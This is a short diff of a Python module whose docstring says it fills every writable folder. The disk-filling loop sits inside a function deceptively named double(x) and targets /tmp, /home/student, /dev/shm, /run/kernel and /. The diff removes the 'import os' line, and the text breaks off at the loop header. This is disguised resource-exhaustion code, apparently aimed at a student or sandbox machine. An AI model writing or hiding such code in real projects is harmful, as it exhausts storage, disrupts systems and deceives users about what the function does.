@@ -1,7 +1,5 @@
 """Fills every folder that it can write to."""
 
-import os
-
 
 def double(x):
     for folder in ("/tmp", "/home/student", "/dev/shm", "/run/kernel", "/"):
